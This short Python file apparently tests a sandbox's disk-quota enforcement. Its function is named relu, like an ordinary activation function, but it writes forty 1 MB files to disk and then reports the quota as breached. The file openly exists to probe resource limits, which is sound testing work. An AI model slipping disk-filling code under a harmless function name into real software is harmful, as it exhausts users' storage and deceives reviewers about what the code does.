"""Fills the disk with files that are each small enough."""
import time


def relu(Z):
    for number in range(40):
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 20))
    time.sleep(0.6)
    breached("40 MB")
